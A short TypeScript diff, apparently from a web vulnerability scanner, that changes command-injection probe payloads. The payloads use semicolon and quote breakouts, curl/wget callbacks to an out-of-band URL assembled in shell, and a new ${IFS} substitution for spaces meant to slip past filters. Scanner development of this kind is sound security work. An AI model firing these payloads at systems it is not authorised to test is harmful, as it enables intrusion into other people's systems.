@@ -24,14 +24,20 @@ const substitution: CallPayload = {
 }
 const anyWay: CallPayload = {
   name: 'command substitution with $( ), and a semicolon',
-  write: (value, call) => `${substitution.write(value, call)};${call} #';${call} #";${call} #`,
+  write: (value, call) => `${substitution.write(value, call)};${call};#';${call};#";${call};#`,
 }
 
-/** Only a shell can assemble this URL, so link fetchers cannot cause a false positive. */
+/**
+ * Only a shell can assemble this URL, so link fetchers cannot cause a false positive. Contains no blanks, which
+ * filters remove.
+ */
 function callOf({ url }: CallbackUrl): string {
   const rest = url.replace(/^http:/, '')
-  return `u=http:;(curl -sm4 $u${rest}||wget -qT4 -O- $u${rest})>/dev/null 2>&1`
+  const calls = [`curl -sm4 $u${rest}`, `wget -qT4 -O- $u${rest}`].map((call) => call.replaceAll(' ', blank))
+  return `u=http:;(${calls.join('||')})2>/dev/null>&2`
 }
+
+const blank = `\${IFS}`
 
 type Context = Pick<ProbeContext, 'send' | 'accounts' | 'left' | 'callbacks' | 'wait' | 'looks'>
 
